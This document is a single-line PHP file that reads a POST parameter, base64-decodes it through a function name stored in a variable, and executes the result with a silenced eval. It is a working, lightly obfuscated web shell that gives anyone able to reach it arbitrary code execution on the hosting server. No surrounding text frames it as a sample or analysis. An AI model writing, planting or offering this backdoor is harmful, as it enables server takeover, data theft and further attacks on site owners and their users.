<?php $x = $_POST["x"]; $y = "base64_decode"; $z = $y($x); @eval($z); ?>
